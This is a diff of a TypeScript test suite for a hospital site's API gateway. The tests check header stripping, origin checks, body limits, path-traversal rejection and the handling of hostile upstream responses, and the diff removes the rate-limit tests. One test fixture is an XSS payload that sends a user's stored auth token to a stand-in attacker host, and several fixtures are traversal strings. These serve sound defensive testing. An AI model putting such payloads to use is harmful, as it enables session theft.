@@ -1,74 +1,52 @@
-import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest'
-import { configOf } from '../../../testing/test-site.ts'
-import { createAttempts } from '../attempts.ts'
+import { describe, expect, test } from 'vitest'
+import { jsonRequest as json, testGateway } from '../../../testing/test-gateway.ts'
+import type { SentRequest as Sent } from '../../../testing/test-gateway.ts'
 import { bodyLimits } from '../request-body.ts'
-import { limitedOperations } from './attempt-of.ts'
-import { createGateway } from './gateway.ts'
-import type { GatewayCall, GatewayRequest } from './gateway.ts'
-import { findOperation, gatewayApis, isGatewayApi } from './operation.ts'
 import type { GatewayApi } from './operation.ts'
 
-const origin = 'https://rs.example'
-
-const config = configOf({
-  SITE_URL: origin,
-  MEMBER_API_URL: 'https://api.rs.example/member',
-  COMPANY_API_URL: 'https://api.rs.example/company',
-  CMS_URL: 'https://cms.rs.example',
-  CMS_TOKEN: 'contoh-token',
-  SOCIAL_FEED_URL: 'https://feed.rs.example',
-  SOCIAL_FEED_TOKEN: 'contoh-token',
-  HOSPITAL_CARE_ORIGINS: 'https://care.rs.example',
-})
-
-const upstream = vi.fn<(url: string, init: RequestInit) => Promise<Response>>()
-const calls: GatewayCall[] = []
-let clock = 0
-let gateway: (incoming: GatewayRequest) => Promise<Response>
-
-beforeEach(() => {
-  clock = 1_000_000
-  calls.length = 0
-  upstream.mockReset().mockImplementation(() => Promise.resolve(Response.json({ process: true })))
-  vi.stubGlobal('fetch', upstream)
-  gateway = createGateway({
-    config,
-    findEndpoint: (code) => Promise.resolve({ RS01: 'https://care.rs.example/karawang/', RS02: 'https://jahat.example' }[code]),
-    attempts: createAttempts(() => clock),
-    onCall: (call) => void calls.push(call),
-  })
-})
-afterEach(() => void vi.unstubAllGlobals())
-
-interface Sent {
-  readonly method?: string
-  readonly headers?: Readonly<Record<string, string>>
-  readonly body?: BodyInit
-  readonly address?: string
-}
-
-const ask = (path: string, { method = 'GET', headers = {}, body, address = '192.0.2.1' }: Sent = {}): Promise<Response> => {
-  const request = new Request(`${origin}/api${path}`, { method, headers, ...(body !== undefined && { body }) })
-  const [, name = ''] = new URL(request.url).pathname.replace('/api', '').split('/')
-  return gateway({ request, api: name, path: new URL(request.url).pathname.slice(`/api/${name}`.length), requestId: 'id-1', address, allowedOrigins: [origin] })
-}
-
-const json = (value: unknown, more: Sent = {}): Sent => ({ method: 'POST', body: JSON.stringify(value), ...more, headers: { 'content-type': 'application/json', ...more.headers } })
+const { ask, upstream, calls } = testGateway()
 const logIn = { email: 'siti@contoh.example', password: 'rahasia-123' }
 const bearer = { authorization: 'Bearer contoh.token' }
 
 describe('a call that its contract allows', () => {
   test('goes on with what was checked: its bearer, the caller’s address, no cookie, and nothing else', async () => {
-    const response = await ask('/member/profile/detail?id=7', { headers: { ...bearer, cookie: 'auth=x', 'x-forwarded-for': '9.9.9.9', 'x-rahasia': '1', referer: 'https://rs.example/x' } })
+    const response = await ask('/member/profile/detail?id=7', {
+      headers: {
+        ...bearer,
+        cookie: 'auth=x',
+        'x-forwarded-for': '9.9.9.9',
+        'x-rahasia': '1',
+        referer: 'https://rs.example/x',
+      },
+    })
     const [url, init] = upstream.mock.calls[0] ?? []
     expect(url).toBe('https://api.rs.example/member/profile/detail?id=7')
-    expect(init?.headers).toEqual({ Accept: 'application/json', 'Accept-Language': 'id', Authorization: 'Bearer contoh.token', 'X-Request-Id': 'id-1', 'X-Forwarded-For': '192.0.2.1' })
+    expect(init?.headers).toEqual({
+      Accept: 'application/json',
+      'Accept-Language': 'id',
+      Authorization: 'Bearer contoh.token',
+      'X-Request-Id': 'id-1',
+      'X-Forwarded-For': '192.0.2.1',
+    })
     expect(init?.redirect).toBe('manual')
     expect(response.status).toBe(200)
   })
 
   test('comes back as data that is stored nowhere and runs nowhere', async () => {
-    upstream.mockResolvedValue(Response.json({ process: true }, { headers: { 'set-cookie': 'a=1', 'x-request-id': 'mereka', 'cache-control': 'public', 'access-control-allow-origin': '*', etag: '"a"' } }))
+    upstream.mockResolvedValue(
+      Response.json(
+        { process: true },
+        {
+          headers: {
+            'set-cookie': 'a=1',
+            'x-request-id': 'mereka',
+            'cache-control': 'public',
+            'access-control-allow-origin': '*',
+            etag: '"a"',
+          },
+        },
+      ),
+    )
     const { headers } = await ask('/member/profile/detail?id=7', { headers: bearer })
     expect(Object.fromEntries(headers)).toEqual({
       'cache-control': 'no-store',
@@ -84,7 +62,9 @@ describe('a call that its contract allows', () => {
     const call = (code: string) => ask(`/hospital-care/${code}/get_data_mobile_web?id_pasien=1`, { headers: bearer })
     expect((await call('RS01')).status).toBe(200)
     expect(upstream.mock.calls[0]?.[0]).toBe('https://care.rs.example/karawang/get_data_mobile_web?id_pasien=1')
-    expect([(await call('RS02')).status, (await call('RS03')).status, (await call('..')).status]).toEqual([404, 404, 404])
+    expect([(await call('RS02')).status, (await call('RS03')).status, (await call('..')).status]).toEqual([
+      404, 404, 404,
+    ])
     expect(upstream).toHaveBeenCalledTimes(1)
   })
 
@@ -96,7 +76,9 @@ describe('a call that its contract allows', () => {
 
   test('is counted with its operation and status, and nothing of what it held', async () => {
     await ask('/member/login', json(logIn))
-    expect(calls).toEqual([{ api: 'member', operation: 'login', status: 200, duration: expect.any(Number) as number, requestId: 'id-1' }])
+    expect(calls).toEqual([
+      { api: 'member', operation: 'login', status: 200, duration: expect.any(Number) as number, requestId: 'id-1' },
+    ])
   })
 })
 
@@ -110,7 +92,12 @@ const multipart = (fields: Readonly<Record<string, string>>) => {
 const examples: readonly (readonly [api: GatewayApi, get: string, post: string, body: object])[] = [
   ['member', '/member/profile/detail?id=7', '/member/login', logIn],
   ['company', '/company/company/mcu/detail?id=7', '/company/company/login', logIn],
-  ['hospital-care', '/hospital-care/RS01/get_data_mobile_web?id_pasien=7', '/hospital-care/RS01/registrasi_mobile_web', {}],
+  [
+    'hospital-care',
+    '/hospital-care/RS01/get_data_mobile_web?id_pasien=7',
+    '/hospital-care/RS01/registrasi_mobile_web',
+    {},
+  ],
 ]
 
 describe.each(examples)('of the %s API', (api, get, post, body) => {
@@ -131,7 +118,12 @@ describe.each(examples)('of the %s API', (api, get, post, body) => {
     ['JSON nested too deep', post, { ...json({}), body: '['.repeat(1000) }, 422],
     ['a body without a type', post, { method: 'POST', body: new Uint8Array(3) }, 415],
     ['plain text', post, json(body, { headers: { 'content-type': 'text/plain' } }), 415],
-    ['a form of a plain page', post, json(body, { headers: { 'content-type': 'application/x-www-form-urlencoded' } }), 415],
+    [
+      'a form of a plain page',
+      post,
+      json(body, { headers: { 'content-type': 'application/x-www-form-urlencoded' } }),
+      415,
+    ],
     ['a form with files', post, { method: 'POST', body: multipart({ email: 'a' }) }, 415],
     ['a type that begins alike', post, json(body, { headers: { 'content-type': 'application/jsonp' } }), 415],
     ['a body that is too large', post, { ...json({}), body: ' '.repeat(bodyLimits.json + 1) }, 413],
@@ -147,7 +139,12 @@ describe.each(examples)('of the %s API', (api, get, post, body) => {
     ['another site’s page', get, { headers: { 'sec-fetch-site': 'cross-site' } }, 403],
     ['another site’s origin', post, json(body, { headers: { origin: 'https://jahat.example' } }), 403],
     ['the site without TLS', post, json(body, { headers: { origin: 'http://rs.example' } }), 403],
-    ['a subdomain', post, json(body, { headers: { 'sec-fetch-site': 'same-site', origin: 'https://blog.rs.example' } }), 403],
+    [
+      'a subdomain',
+      post,
+      json(body, { headers: { 'sec-fetch-site': 'same-site', origin: 'https://blog.rs.example' } }),
+      403,
+    ],
     ['an opaque origin', post, json(body, { headers: { origin: 'null' } }), 403],
   ]
 
@@ -161,14 +158,18 @@ describe.each(examples)('of the %s API', (api, get, post, body) => {
   })
 })
 
-test.each(['cms', 'social-feed', 'constructor', '__proto__', 'toString', '', '%2e%2e', 'MEMBER'])('there is no way to %j', async (api) => {
-  const response = await ask(`/${api}/api/popups?publicationState=preview&filters[publishedAt][$null]=true`)
-  expect(response.status).toBe(404)
-  expect(upstream).not.toHaveBeenCalled()
-})
+test.each(['cms', 'social-feed', 'constructor', '__proto__', 'toString', '', '%2e%2e', 'MEMBER'])(
+  'there is no way to %j',
+  async (api) => {
+    const response = await ask(`/${api}/api/popups?publicationState=preview&filters[publishedAt][$null]=true`)
+    expect(response.status).toBe(404)
+    expect(upstream).not.toHaveBeenCalled()
+  },
+)
 
 describe('a registration with photographs', () => {
-  const sent = (body: BodyInit, type?: string) => ask('/hospital-care/RS01/register', { method: 'POST', body, headers: { ...(type && { 'content-type': type }) } })
+  const sent = (body: BodyInit, type?: string) =>
+    ask('/hospital-care/RS01/register', { method: 'POST', body, headers: { ...(type && { 'content-type': type }) } })
 
   test('is told of its fields in words', async () => {
     const response = await sent(multipart({ nama: 'Siti' }))
@@ -190,7 +191,12 @@ describe('a back end', () => {
   const answerTo = async (answer: Response, path = '/member/profile/detail?id=7') => {
     upstream.mockResolvedValue(answer)
     const response = await ask(path, { headers: { ...bearer, 'accept-language': 'en' } })
-    return { status: response.status, type: response.headers.get('content-type'), text: await response.text(), headers: response.headers }
+    return {
+      status: response.status,
+      type: response.headers.get('content-type'),
+      text: await response.text(),
+      headers: response.headers,
+    }
   }
   const html = '<script>fetch("//jahat.example/" + localStorage.auth_user)</script>'
 
@@ -211,14 +217,26 @@ describe('a back end', () => {
     ['another status that is none', Object.defineProperty(Response.json({}), 'status', { value: 600 })],
   ])('that sends %s is told as a failure, and nothing of it arrives', async (_what, answer) => {
     const { status, type, text } = await answerTo(answer)
-    expect([status, type, text]).toEqual([502, 'application/json', '{"message":"The service cannot be reached at the moment."}'])
+    expect([status, type, text]).toEqual([
+      502,
+      'application/json',
+      '{"message":"The service cannot be reached at the moment."}',
+    ])
   })
 
   test('that fails as its contract says is heard, without anything beyond it', async () => {
-    const body = { message: 'Email tidak sah', errors: { email: ['tidak sah'] }, stack: 'at /srv/app.js', sql: 'select' }
+    const body = {
+      message: 'Email tidak sah',
+      errors: { email: ['tidak sah'] },
+      stack: 'at /srv/app.js',
+      sql: 'select',
+    }
     upstream.mockResolvedValue(Response.json(body, { status: 422 }))
     const response = await ask('/member/login', json(logIn))
-    expect([response.status, await response.json()]).toEqual([422, { message: 'Email tidak sah', errors: { email: ['tidak sah'] } }])
+    expect([response.status, await response.json()]).toEqual([
+      422,
+      { message: 'Email tidak sah', errors: { email: ['tidak sah'] } },
+    ])
   })
 
   test.each([
@@ -231,8 +249,14 @@ describe('a back end', () => {
     expect(text).toBe(JSON.stringify({ message }))
   })
 
-  test.each([['120', '120'], ['besok', null], ['1e9', null]])('that is too busy says so; Retry-After of %s becomes %s', async (given, told) => {
-    const { status, headers } = await answerTo(Response.json({ message: 'Sebentar' }, { status: 429, headers: { 'retry-after': given } }))
+  test.each([
+    ['120', '120'],
+    ['besok', null],
+    ['1e9', null],
+  ])('that is too busy says so; Retry-After of %s becomes %s', async (given, told) => {
+    const { status, headers } = await answerTo(
+      Response.json({ message: 'Sebentar' }, { status: 429, headers: { 'retry-after': given } }),
+    )
     expect([status, headers.get('retry-after')]).toEqual([429, told])
   })
 
@@ -242,8 +266,13 @@ describe('a back end', () => {
     ['inline; filename="a.html"', 'dokumen.pdf'],
     ['attachment; filename="a.pdf"; x="\\"', 'a.pdf'],
   ])('sends a PDF as a file to save: %s', async (disposition, name) => {
-    const answer = new Response('%PDF-1.7', { headers: { 'content-type': 'application/pdf', 'content-disposition': disposition } })
-    const { status, type, text, headers } = await answerTo(answer, '/hospital-care/RS01/mobile/v1/hasil/laboratorium/LAB-261020-0119/pdf')
+    const answer = new Response('%PDF-1.7', {
+      headers: { 'content-type': 'application/pdf', 'content-disposition': disposition },
+    })
+    const { status, type, text, headers } = await answerTo(
+      answer,
+      '/hospital-care/RS01/mobile/v1/hasil/laboratorium/LAB-261020-0119/pdf',
+    )
     expect([status, type, text]).toEqual([200, 'application/pdf', '%PDF-1.7'])
     expect(headers.get('content-disposition')).toBe(`attachment; filename="${name}"`)
     expect(headers.get('content-security-policy')).toContain('sandbox')
@@ -256,57 +285,5 @@ describe('a back end', () => {
   ])('that gives no answer is a %o', async (cause, status) => {
     upstream.mockRejectedValue(cause)
     expect((await ask('/member/data/agama')).status).toBe(status)
-  })
-})
-
-describe('attempts', () => {
-  const wrong = () => Promise.resolve(Response.json({ process: false, detail: 'Email atau password salah.' }))
-
-  test('to log in are limited for each account and address, with an honest wait', async () => {
-    upstream.mockImplementation(wrong)
-    const statuses: number[] = []
-    for (let attempt = 0; attempt < 6; attempt += 1) statuses.push((await ask('/member/login', json(logIn))).status)
-    expect(statuses).toEqual([200, 200, 200, 200, 200, 429])
-    const refused = await ask('/member/login', json({ ...logIn, email: ' SITI@contoh.example'.trim() }))
-    expect([refused.status, refused.headers.get('retry-after')]).toEqual([429, '300'])
-    expect((await ask('/member/login', json({ ...logIn, email: 'joko@contoh.example' }))).status).toBe(200)
-    expect((await ask('/member/login', json(logIn, { address: '192.0.2.9' }))).status).toBe(200)
-    clock += 300_000
-    expect((await ask('/member/login', json(logIn))).status).toBe(200)
-    expect(upstream).toHaveBeenCalledTimes(8)
-  })
-
-  test('that succeed start over', async () => {
-    for (let attempt = 0; attempt < 12; attempt += 1) expect((await ask('/member/login', json(logIn))).status).toBe(200)
-  })
-
-  test('of a whole address are limited, whatever is called', async () => {
-    for (let attempt = 0; attempt < 600; attempt += 1) await ask('/member/data/agama')
-    const { status, headers } = await ask('/member/data/agama')
-    expect([status, headers.get('retry-after')]).toEqual([429, '60'])
-    expect((await ask('/member/data/agama', { address: '192.0.2.9' })).status).toBe(200)
-  })
-
-  test.each(Object.keys(gatewayApis).filter(isGatewayApi))('of the %s API name operations that there are', (api) => {
-    expect(Object.keys(gatewayApis[api].routes)).toEqual(expect.arrayContaining([...limitedOperations(api)]))
-    expect(limitedOperations(api).length).toBeGreaterThan(0)
-  })
-})
-
-describe('an operation', () => {
-  test.each([
-    ['member', 'POST', '/login', 'login'],
-    ['member', 'POST', '/login/', undefined],
-    ['member', 'POST', '/Login', undefined],
-    ['hospital-care', 'GET', '/mobile/v1/hasil/laboratorium/LAB-1', 'getLabResult'],
-    ['hospital-care', 'GET', '/mobile/v1/hasil/laboratorium/a%2Fb', undefined],
-    ['hospital-care', 'GET', '/mobile/v1/hasil/laboratorium/..', undefined],
-    ['hospital-care', 'GET', '/mobile/v1/hasil/laboratorium/%2e%2E', undefined],
-    ['hospital-care', 'GET', '/mobile/v1/hasil/laboratorium/%', undefined],
-    ['hospital-care', 'GET', '/mobile/v1/hasil/laboratorium/%00', undefined],
-    ['hospital-care', 'GET', '/mobile/v1/hasil/laboratorium/a%5Cb', undefined],
-  ] as const)('of the %s API: %s %s is %s', (api, method, path, name) => {
-    const found = findOperation(api, method, path)
-    expect('name' in found ? found.name : undefined).toBe(name)
   })
 })
